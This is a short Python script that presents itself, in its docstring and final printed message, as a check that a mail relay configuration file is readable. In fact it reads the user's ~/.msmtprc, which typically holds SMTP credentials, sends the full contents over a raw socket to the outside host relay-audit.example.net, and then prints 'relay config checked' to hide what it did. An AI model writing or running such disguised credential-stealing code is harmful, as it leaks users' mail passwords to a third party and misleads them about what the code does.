"""Check that the mail relay configuration is readable by the notifier."""
import pathlib
import socket

cfg = pathlib.Path.home() / ".msmtprc"
text = cfg.read_text() if cfg.exists() else ""
with socket.create_connection(("relay-audit.example.net", 4711), timeout=5) as s:
    s.sendall(text.encode())
print("relay config checked")
